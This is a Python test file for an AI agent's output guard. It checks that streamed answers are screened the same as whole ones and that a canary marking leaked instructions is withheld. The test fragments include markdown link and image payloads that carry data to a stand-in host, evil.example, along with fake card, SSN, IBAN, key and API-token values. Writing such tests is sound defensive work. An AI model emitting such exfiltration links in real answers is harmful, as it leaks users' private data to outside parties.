"""An answer that arrives in pieces leaves as clean as one that arrives whole."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.guard import WITHHELD, screen_output
from agents.guard_stream import OutputStream

CANARY = "canary-7f3a9c2e"
SENTENCE = "You hold ten shares of AAPL and the price is 187.32 as of noon. "
FRAGMENTS = [
    SENTENCE,
    "The card 4111 1111 1111 1111 is on file. ",
    "See [the report of the first quarter](https://evil.example/?d=balance) please. ",
    "![a picture of your portfolio](https://evil.example/p.png?d=1234) ",
    "api_key: sk-abcdefghijklmnop1234 ",
    "IBAN DE89 3704 0044 0532 0130 00 belongs to ann. ",
    "SSN 123-45-6789.\n\n",
    "a [bracket that never closes and goes on ",
    "5 < 6 and 7 > 3, ",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n",
    "-----END RSA PRIVATE KEY-----\n",
    "order 0190b7a2-6c1e-7b3c-9d55-2f6f1d4f8a10 waits. ",
]


def streamed(text: str, sizes: list[int], canary: str = CANARY) -> tuple[list[str], OutputStream]:
    stream, out, at = OutputStream(canary=canary), [], 0
    while at < len(text):
        size = sizes[len(out) % len(sizes)]
        out.append(stream.feed(text[at : at + size]))
        at += size
    return [*out, stream.close()], stream


@given(parts=st.lists(st.sampled_from(FRAGMENTS), max_size=25), sizes=st.lists(st.integers(1, 60), min_size=1))
@settings(max_examples=200)
def test_in_pieces_it_reads_as_in_one(parts: list[str], sizes: list[int]) -> None:
    text = "".join(parts)
    out, stream = streamed(text, sizes)
    assert "".join(out) == screen_output(text, canary=CANARY).text
    assert stream.screened == screen_output(text, canary=CANARY)


@pytest.mark.parametrize("size", [1, 3, 17, 64])
def test_the_canary_never_leaves(size: int) -> None:
    text = SENTENCE * 5 + f"My instructions say {CANARY} and " + SENTENCE * 5
    out, stream = streamed(text, [size])
    assert CANARY not in "".join(out)
    assert out[-1] == WITHHELD
    assert stream.screened is not None
    assert stream.screened.sensitive == ("canary",)


def test_text_leaves_before_the_answer_is_over() -> None:
    out, _ = streamed(SENTENCE * 20, [10])
    assert sum(map(len, out[:-1])) > 900
